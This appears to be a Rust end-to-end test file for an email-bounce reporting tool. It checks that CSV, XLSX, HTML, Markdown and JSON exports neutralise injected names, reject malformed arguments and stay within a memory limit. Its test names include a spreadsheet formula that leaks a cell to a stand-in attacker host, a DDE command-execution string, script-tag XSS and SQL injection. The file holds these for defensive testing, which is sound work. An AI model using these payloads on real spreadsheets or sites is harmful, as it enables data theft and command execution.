//! The test: reports by the real binary. Names that try to be formulas, markup, markdown or SQL come back letter by letter from every
//! format, opened again by a reader of its own; wrong questions are refused with the words that help; a million rows take no more
//! memory than a few.
#![allow(clippy::print_stdout, reason = "a test that measures says what")]

use std::collections::BTreeMap;
use std::fs;
use std::io::{BufRead, BufReader, Cursor};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use bounceflow_end_to_end::{Builder, Pipeline};
use calamine::{Data, DataType, Reader, Xlsx};
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use scraper::{ElementRef, Html, Node, Selector};
use serde_json::{Value, json};

/// What people and attackers call their campaigns.
const NAMES: [&str; 18] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "=1+1",
    "+44 20 7946 0000",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\ttab first",
    "\rreturn first",
    "＝full-width",
    "quote \" and 'single', comma; semicolon",
    "line\nbreak\r\nand another",
    "pipe | and \\ backslash \\| both",
    "<script>alert('x')</script> & &amp; <b>",
    "**bold** [link](http://a.example) `code` _under_ # * ~ $x$ ![i](j)",
    "naïve 東京 🦀 \u{202e}gnp.exe",
    "{from:Date}' OR 1=1 -- \\N ?",
    "_x0041_ _x000D_",
    " spaces  inside ",
    "\u{1b}[31mred",
];
const PERIOD: [&str; 4] = ["--from", "2026-05-01", "--to", "2026-05-31"];
/// What a report of any length may take at its peak.
const MOST_MEMORY_KIB: u64 = 48 * 1024;
const MILLION: u64 = 1_000_000;

/// A pipeline that keeps everything: the days of the test grow old.
fn pipeline(name: &str) -> Result<Pipeline> {
    let classes = ["diagnostics", "failures", "rates"];
    let kept = |builder: Builder, class: &&str| builder.set(&["clickhouse", "retention", class], 0);
    classes.iter().try_fold(Pipeline::builder(name)?, kept)?.build()
}

fn report<'a>(name: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    [&["report", name], &PERIOD[..], more].concat()
}

/// A campaign and an identity of each name; the place of the name is how often it bounced.
fn fill(pipeline: &Pipeline) -> Result<()> {
    let (mut failures, mut rates) = (String::new(), String::new());
    for (i, name) in NAMES.iter().enumerate() {
        let failure = json!({
            "event_time": format!("2026-05-{:02} 12:00:00.000", i + 1), "event_type": "bounce", "severity": "hard",
            "category": "invalid_recipient", "root_cause": "list", "action": "remove_recipient", "rule": "fallback.550",
            "pattern": i + 1, "pattern_version": 1, "isp": "gmail", "identity": name, "campaign": name, "from_domain": "a.example",
            "recipient_domain": "b.example", "reply_code": 550, "enhanced_code": "5.1.1", "diagnostic": name, "attempt": 1,
        });
        failures.extend(std::iter::repeat_n(format!("{failure}\n"), i + 1));
        let rate = json!({
            "minute": format!("2026-05-{:02} 12:00:00", i + 1), "isp": "gmail", "identity": name, "campaign": name,
            "sending_ip": "192.0.2.1", "deliveries": 1000, "hard": i + 1, "bounce_categories": { "invalid_recipient": i + 1 },
        });
        rates.push_str(&format!("{rate}\n"));
    }
    for (table, lines) in [("failures", failures), ("delivery_rates", rates)] {
        let insert = format!("INSERT INTO {}.{table} FORMAT JSONEachRow\n{lines}", pipeline.database());
        pipeline.servers.clickhouse.query_within(Duration::from_secs(60), &insert)?;
    }
    Ok(())
}

#[test]
fn names_of_any_letters_come_back_from_every_format() -> Result<()> {
    let pipeline = pipeline("report")?;
    fill(&pipeline)?;
    let expected: BTreeMap<String, u64> = (1..).zip(NAMES).map(|(n, name)| (name.to_owned(), n)).collect();
    for (extension, read) in [
        ("json", from_json as fn(&Path) -> Result<Vec<Row>>),
        ("csv", from_csv),
        ("xlsx", from_xlsx),
        ("html", from_html),
        ("md", from_markdown),
    ] {
        let file = pipeline.folder().join(format!("bounces.{extension}"));
        let path = file.to_str().context("a path that is no text")?;
        pipeline.succeed(&report("bounce-report", &["--output", path]))?;
        let mut found = BTreeMap::new();
        for row in read(&file).with_context(|| extension.to_owned())? {
            let Row { campaign, text, amount, first } = row;
            ensure!(campaign == text, "{extension}: campaign {campaign:?}, text {text:?}");
            ensure!(first == format!("2026-05-{amount:02}"), "{extension}: {amount} came first on {first}");
            found.insert(campaign, amount);
        }
        let shown = |name: &String| if extension == "md" { of_one_line(name) } else { line_breaks(extension, name) };
        let expected: BTreeMap<String, u64> = expected.iter().map(|(name, n)| (shown(name), *n)).collect();
        let differs: Vec<_> = expected.iter().filter(|(name, n)| found.get(*name) != Some(n)).collect();
        ensure!(differs.is_empty() && found.len() == NAMES.len(), "{extension}: of {found:#?} these differ: {differs:#?}");
        // Through a pipe it is the same, but for the time it was made at.
        if extension == "csv" {
            let piped = pipeline.command(&report("bounce-report", &["--format", extension]))?;
            ensure!(piped.status.success() && piped.stdout == fs::read(&file)?, "{extension} differs on standard output");
        }
        // And every section of the big one can be read.
        let monthly = pipeline.folder().join(format!("monthly.{extension}"));
        pipeline.succeed(&report("monthly", &["--output", monthly.to_str().context("no text")?]))?;
        ensure!(fs::metadata(&monthly)?.len() > 1000, "monthly.{extension} is small");
    }
    each_name_is_a_filter(&pipeline)?;
    monthly_opens(&pipeline)?;
    terminal(&pipeline)?;
    pipeline.passed();
    Ok(())
}

/// What every format has of `bounce-report`.
struct Row {
    campaign: String,
    text: String,
    amount: u64,
    first: String,
}

impl Row {
    /// From cells by the titles above them.
    fn of(titles: &[String], cells: &[String]) -> Result<Self> {
        ensure!(titles.len() == cells.len(), "{} titles over {} cells: {cells:?}", titles.len(), cells.len());
        let cell = |title: &str| {
            let named = |known: &String| known.to_lowercase().replace(' ', "_") == title;
            titles.iter().position(named).map(|at| cells[at].clone()).with_context(|| format!("no {title} in {titles:?}"))
        };
        Ok(Self {
            campaign: cell("campaign")?,
            text: cell("bounce_text")?,
            amount: cell("amount")?.parse()?,
            first: cell("first_date")?,
        })
    }
}

fn from_json(file: &Path) -> Result<Vec<Row>> {
    let report: Value = serde_json::from_slice(&fs::read(file)?)?;
    ensure!(report["meta"]["period"] == json!({ "from": "2026-05-01", "to": "2026-05-31" }), "{}", report["meta"]);
    ensure!(report["meta"]["time_zone"] == "UTC" && report["meta"]["report"] == "bounce-report", "{}", report["meta"]);
    let rows = report["sections"][0]["rows"].as_array().context("no rows")?;
    let text = |row: &Value, name: &str| row[name].as_str().map(str::to_owned).with_context(|| format!("no {name}: {row}"));
    let row = |row: &Value| -> Result<Row> {
        Ok(Row {
            campaign: text(row, "campaign")?,
            text: text(row, "bounce_text")?,
            amount: row["amount"].as_u64().context("no amount")?,
            first: text(row, "first_date")?,
        })
    };
    rows.iter().map(row).collect()
}

fn from_csv(file: &Path) -> Result<Vec<Row>> {
    let mut reader = csv::Reader::from_path(file)?;
    let titles: Vec<String> = reader.headers()?.iter().map(str::to_owned).collect();
    let mut rows = Vec::new();
    for record in reader.records() {
        let cells: Vec<String> = record?.iter().map(str::to_owned).collect();
        for cell in &cells {
            ensure!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']), "a formula: {cell:?}");
        }
        // No name begins with the mark itself.
        let cells: Vec<String> = cells.iter().map(|cell| cell.strip_prefix('\'').unwrap_or(cell).to_owned()).collect();
        rows.push(Row::of(&titles, &cells)?);
    }
    Ok(rows)
}

fn from_xlsx(file: &Path) -> Result<Vec<Row>> {
    let mut book: Xlsx<_> = calamine::open_workbook(file)?;
    ensure!(book.sheet_names() == ["About", "Bounces"], "{:?}", book.sheet_names());
    ensure!(book.worksheet_formula("Bounces")?.is_empty(), "there are formulas");
    let sheet = book.worksheet_range("Bounces")?;
    let mut lines = sheet.rows();
    let titles: Vec<String> = lines.next().context("no header")?.iter().map(ToString::to_string).collect();
    let cell = |cell: &Data| match cell {
        Data::DateTime(time) => day(time.as_f64()),
        other => Ok(other.to_string()),
    };
    lines.map(|line| Row::of(&titles, &line.iter().map(cell).collect::<Result<Vec<_>>>()?)).collect()
}

/// The day of a cell that is a date, not a text.
fn day(days_since_1899: f64) -> Result<String> {
    let day = jiff::civil::date(1899, 12, 30).checked_add(jiff::Span::new().days(days_since_1899 as i64))?;
    Ok(day.to_string())
}

fn from_html(file: &Path) -> Result<Vec<Row>> {
    let page = Html::parse_document(&fs::read_to_string(file)?);
    quiet(&page)?;
    let of = |css: &str| Selector::parse(css).map_err(|e| anyhow::anyhow!("{e}"));
    let titles: Vec<String> = page.select(&of("th")?).map(text_of).collect();
    let (line, cell) = (of("tbody tr")?, of("td")?);
    page.select(&line).map(|line| Row::of(&titles, &line.select(&cell).map(text_of).collect::<Vec<_>>())).collect()
}

/// Nothing runs, nothing is fetched.
fn quiet(page: &Html) -> Result<()> {
    for node in page.tree.nodes() {
        let Node::Element(element) = node.value() else { continue };
        ensure!(!matches!(element.name(), "script" | "a" | "img" | "link" | "iframe" | "object"), "<{}>", element.name());
        for (name, value) in element.attrs() {
            let fetches =
                matches!(name, "src" | "href" | "xlink:href" | "action") || name.starts_with("on") || value.contains("url(");
            ensure!(!fetches, "<{} {name}={value:?}>", element.name());
        }
    }
    Ok(())
}

fn text_of(element: ElementRef<'_>) -> String {
    let word = |node: &Node| match node {
        Node::Text(text) => text.to_string(),
        Node::Element(element) if element.name() == "br" => "\n".to_owned(),
        _ => String::new(),
    };
    element.descendants().map(|node| word(node.value())).collect()
}

fn from_markdown(file: &Path) -> Result<Vec<Row>> {
    let text = fs::read_to_string(file)?;
    let (mut lines, mut cells, mut cell) = (Vec::new(), Vec::new(), None::<String>);
    for event in Parser::new_ext(&text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_MATH) {
        match (event, &mut cell) {
            (Event::Start(Tag::TableCell), _) => cell = Some(String::new()),
            (Event::End(TagEnd::TableCell), _) => cells.push(cell.take().context("a cell that has not begun")?),
            (Event::End(TagEnd::TableHead | TagEnd::TableRow), _) => lines.push(std::mem::take(&mut cells)),
            (Event::Text(words), Some(cell)) => cell.push_str(&words),
            (Event::InlineHtml(tag), Some(cell)) if &*tag == "<br>" => cell.push('\n'),
            (event, Some(_)) => bail!("markup in a cell: {event:?}"),
            (_, None) => {}
        }
    }
    let titles = lines.first().context("no table")?.clone();
    lines[1..].iter().map(|line| Row::of(&titles, line)).collect()
}

/// HTML has one kind of line break, and no control characters; a spreadsheet has all of them.
fn line_breaks(extension: &str, name: &str) -> String {
    match extension {
        "html" => name.replace("\r\n", "\n").replace('\r', "\n").replace('\u{1b}', "\u{fffd}"),
        _ => name.to_owned(),
    }
}

/// A cell of Markdown has no space around it either.
fn of_one_line(name: &str) -> String {
    let name = name.replace("\r\n", "\n").replace('\r', "\n");
    let name: String = name.chars().map(|c| if c.is_control() && c != '\n' { ' ' } else { c }).collect();
    name.trim_matches(' ').to_owned()
}

fn each_name_is_a_filter(pipeline: &Pipeline) -> Result<()> {
    for (n, name) in (1..).zip(NAMES) {
        let filter = [format!("--campaign={name}"), format!("--identity={name}")];
        let found = pipeline.succeed(&report("bounce-report", &["--format", "json", &filter[0], &filter[1]]))?;
        let found: Value = serde_json::from_str(&found)?;
        ensure!(found["meta"]["filters"]["campaign"] == json!([name]), "{}", found["meta"]);
        let rows = found["sections"][0]["rows"].as_array().context("no rows")?;
        ensure!(rows.len() == 1 && rows[0]["amount"] == n, "{name:?}: {rows:?}");
    }
    Ok(())
}

/// The big one: its sections, its charts, its types.
fn monthly_opens(pipeline: &Pipeline) -> Result<()> {
    let file = |extension: &str| pipeline.folder().join(format!("monthly.{extension}"));
    let titles = ["KPIs", "Days", "ISPs", "Identities", "Campaigns", "SMTP replies", "What changed"];
    let mut book: Xlsx<_> = calamine::open_workbook(file("xlsx"))?;
    ensure!(book.sheet_names()[1..] == titles, "{:?}", book.sheet_names());
    let isps = book.worksheet_range("ISPs")?;
    let header: Vec<String> = isps.rows().next().context("no header")?.iter().map(ToString::to_string).collect();
    let at = |title: &str| header.iter().position(|cell| cell == title).with_context(|| format!("no {title} in {header:?}"));
    let hard: u64 = (1..=NAMES.len() as u64).sum();
    let outcomes = 1000 * NAMES.len() as u64 + hard;
    let row = isps.rows().nth(1).context("no ISP")?;
    ensure!(row[at("Outcomes")?].as_f64() == Some(outcomes as f64), "{row:?}");
    // A spreadsheet keeps fifteen digits.
    let rate = row[at("Hard rate")?].as_f64().context("no hard rate")?;
    ensure!((rate - hard as f64 / outcomes as f64).abs() < 1e-12, "{row:?}");
    let page = Html::parse_document(&fs::read_to_string(file("html"))?);
    quiet(&page)?;
    let of = |css: &str| Selector::parse(css).map_err(|e| anyhow::anyhow!("{e}"));
    let headings: Vec<String> = page.select(&of("h2")?).map(text_of).collect();
    ensure!(headings == titles, "{headings:?}");
    ensure!(page.select(&of("svg")?).count() == 5, "{} charts", page.select(&of("svg")?).count());
    // A line of each section names it.
    let csv = fs::read_to_string(file("csv"))?;
    for section in ["kpis", "days", "isps", "identities", "campaigns", "patterns"] {
        ensure!(csv.contains(&format!("\r\n{section},")), "no {section} in {csv}");
    }
    Ok(())
}

/// Whatever names hold, a table keeps to its width and sends the terminal nothing but text.
fn terminal(pipeline: &Pipeline) -> Result<()> {
    for width in [40, 80, 200] {
        for name in ["bounce-report", "campaign-kpis", "smtp-patterns"] {
            let table = pipeline.succeed(&report(name, &["--width", &width.to_string()]))?;
            ensure!(!table.contains(['\u{1b}', '\t', '\r', '\u{202e}']), "{table}");
            let body = table.lines().skip(4).take_while(|line| !line.is_empty());
            for line in body.filter(|line| !line.contains(['東', '🦀', '＝'])) {
                ensure!(line.chars().count() <= width, "{} wide, not {width}: {line}", line.chars().count());
            }
        }
    }
    Ok(())
}

#[test]
fn wrong_questions_are_refused_with_the_words_that_help() -> Result<()> {
    let pipeline = pipeline("report_wrong")?;
    fill(&pipeline)?;
    let cases: &[(&[&str], &str)] = &[
        (&["isp-profiles", "--from", "2026-05-02", "--to", "2026-05-01"], "--from 2026-05-02 is after --to 2026-05-01"),
        (&["isp-profiles", "--from", "2026-05-01T00:00+02:00", "--to", "2026-05-02"], "whole days in UTC"),
        (&["isp-profiles", "--from", "2026-05-01[Europe/Paris]", "--to", "2026-05-02"], "write 2026-05-01"),
        (&["isp-profiles", "--from", "2026-02-30", "--to", "2026-05-02"], "no such day"),
        (&["isp-profiles", "--from", "May", "--to", "2026-05-02"], "write it as 2026-10-01"),
        (&["isp-profiles", "--from", "0001-01-01", "--to", "2026-05-02"], "between the years"),
        (&["isp-profile", "--from", "2026-05-01", "--to", "2026-05-02"], "'isp-profiles'"),
        (&["isp-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--isp", "gmial"], "did you mean gmail?"),
        (&["isp-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--isp", "zzzzzzzz"], "no ISP is called \"zzzzzzzz\""),
        (&["isp-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--identity", "=2+1"], "did you mean =1+1?"),
        (&["isp-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--campaign", "SUM"], "did you mean @SUM(A1:A9)?"),
        (
            &["ip-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--campaign", "x"],
            "cannot be broken down by --campaign",
        ),
        (
            &["isp-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--group-by", "sending-ip"],
            "broken down by --group-by",
        ),
        (&["isp-profiles", "--from", "2026-05-01", "--to", "2026-05-02", "--format", "pdf"], "possible values: table, csv"),
    ];
    for (args, words) in cases {
        let refused = pipeline.command(&[&["report"], *args].concat())?;
        let said = String::from_utf8_lossy(&refused.stderr);
        ensure!(refused.status.code() == Some(2) && said.contains(words), "{args:?}: {} {said}", refused.status);
        ensure!(refused.stdout.is_empty(), "{args:?}: {}", String::from_utf8_lossy(&refused.stdout));
    }
    let missing = pipeline.folder().join("missing").join("a.csv");
    let refused = pipeline.command(&report("isp-profiles", &["--output", missing.to_str().context("no text")?]))?;
    ensure!(
        refused.status.code() == Some(1) && String::from_utf8_lossy(&refused.stderr).contains("cannot write to"),
        "{refused:?}"
    );

    // A known ISP of which nothing is counted, and days of which nothing is: empty, and valid.
    for (args, period) in [
        (["--from", "2020-05-01", "--to", "2020-05-31"], "2020-05-01 to 2020-05-31"),
        (["--from", "2020-02-29", "--to", "2020-02-29"], "2020-02-29"),
    ] {
        for format in ["table", "csv", "xlsx", "json", "markdown", "html"] {
            for name in ["monthly", "bounce-report", "alert-history"] {
                let file = pipeline.folder().join("empty");
                let path = file.to_str().context("no text")?;
                let command = [&["report", name, "--format", format, "--output", path], &args[..]].concat();
                let empty = pipeline.command(&command)?;
                let said = String::from_utf8_lossy(&empty.stderr);
                ensure!(
                    empty.status.success() && said.contains(&format!("nothing was counted in {period}")),
                    "{command:?}: {said}"
                );
                opens_empty(format, &file).with_context(|| format!("{command:?}"))?;
                fs::remove_file(&file)?;
            }
        }
    }
    let yahoo = pipeline.command(&report("isp-profiles", &["--isp", "yahoo", "--format", "csv"]))?;
    ensure!(yahoo.status.success() && String::from_utf8_lossy(&yahoo.stdout).lines().count() == 1, "{yahoo:?}");
    ensure!(String::from_utf8_lossy(&yahoo.stderr).contains("nothing of what was asked for was counted"), "{yahoo:?}");
    let left: Vec<_> = fs::read_dir(pipeline.folder())?.filter_map(|entry| Some(entry.ok()?.path())).collect();
    ensure!(left.iter().all(|path| path.extension().is_none_or(|e| e != "part")), "{left:?}");
    pipeline.passed();
    Ok(())
}

fn opens_empty(format: &str, file: &Path) -> Result<()> {
    let bytes = fs::read(file)?;
    match format {
        "csv" => {
            let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(&bytes[..]);
            reader.records().try_for_each(|record| record.map(drop))?;
        }
        "xlsx" => {
            let book = Xlsx::new(Cursor::new(bytes))?;
            ensure!(book.sheet_names().len() > 1, "no sheets");
        }
        "json" => {
            let report: Value = serde_json::from_slice(&bytes)?;
            let sections = report["sections"].as_array().context("no sections")?;
            ensure!(
                sections.iter().all(|section| section["rows"] == json!([]) && section["columns"][0]["name"].is_string()),
                "{report}"
            );
        }
        _ => {
            let text = String::from_utf8(bytes)?;
            ensure!(text.contains("Nothing was counted."), "{text}");
        }
    }
    Ok(())
}

#[test]
fn a_million_rows_take_no_more_memory_than_a_few() -> Result<()> {
    let pipeline = pipeline("report_million")?;
    pipeline.servers.clickhouse.query_within(
        Duration::from_secs(300),
        &format!(
            "INSERT INTO {}.failures (event_time, event_type, severity, category, isp, identity, campaign, from_domain, recipient_domain,
                pattern, pattern_version, reply_code, enhanced_code, diagnostic, attempt)
            SELECT toDateTime64('2026-05-01 00:00:00', 3, 'UTC') + number % 2600000, 'bounce', 'hard', 'invalid_recipient', 'gmail',
                'news.example', concat('campaign-', toString(number % 50)), 'news.example', concat('d', toString(number), '.example'),
                number + 1, 1, 550, '5.1.1', concat('550 5.1.1 <', hex(number), '> no such user here, go away and never come back'), 1
            FROM numbers({MILLION}) SETTINGS max_insert_threads = 1, max_threads = 1",
            pipeline.database()
        ),
    )?;
    let few = ["--campaign", "campaign-0", "--format", "csv"];
    let (_, least) = measured(&pipeline, &report("bounce-report", &few), "few.csv")?;
    println!("bounce-report, csv, {} rows: peak {} KiB", MILLION / 50, least);
    for format in ["table", "csv", "json", "markdown", "html", "xlsx"] {
        let started = Instant::now();
        let (file, peak) = measured(&pipeline, &report("bounce-report", &["--format", format]), format)?;
        let rows = rows_of(format, &file)?;
        let size = fs::metadata(&file)?.len();
        println!("bounce-report, {format}, {rows} rows: peak {peak} KiB, {size} bytes, {:.0} s", started.elapsed().as_secs_f64());
        ensure!(rows == MILLION, "{format} has {rows} rows");
        ensure!(peak <= MOST_MEMORY_KIB, "{format}: {peak} KiB, and {MOST_MEMORY_KIB} is the most");
        fs::remove_file(file)?;
    }
    pipeline.passed();
    Ok(())
}

/// Runs a command to its end; its file, and the most memory it had (VmHWM).
fn measured(pipeline: &Pipeline, command: &[&str], name: &str) -> Result<(PathBuf, u64)> {
    let file = pipeline.folder().join(name);
    let output = ["--output", file.to_str().context("no text")?];
    let mut process = pipeline.start(&[command, &output].concat())?;
    let (deadline, mut peak) = (Instant::now() + Duration::from_secs(900), 0);
    while process.runs()? {
        ensure!(Instant::now() < deadline, "{command:?} does not end: {}", process.log());
        // It may end meanwhile.
        peak = process.memory_mib("VmHWM").map_or(0, |mib| (mib * 1024.0) as u64).max(peak);
        std::thread::sleep(Duration::from_millis(5));
    }
    ensure!(process.end()?.success() && peak > 0, "{command:?}: peak {peak}: {}", process.log());
    Ok((file, peak))
}

fn rows_of(format: &str, file: &Path) -> Result<u64> {
    if format == "xlsx" {
        let mut book: Xlsx<_> = calamine::open_workbook(file)?;
        let mut cells = book.worksheet_cells_reader("Bounces")?;
        let mut last = 0;
        while let Some(cell) = cells.next_cell()? {
            last = cell.get_position().0;
        }
        return Ok(u64::from(last));
    }
    let of_row = |line: &str| match format {
        "json" => line.starts_with("{\"campaign\""),
        "html" => line.starts_with("<tr><td"),
        "markdown" => line.starts_with("| campaign"),
        _ => line.starts_with("campaign-"),
    };
    let mut rows = 0;
    for line in BufReader::new(fs::File::open(file)?).lines() {
        rows += u64::from(of_row(&line?));
    }
    Ok(rows)
}
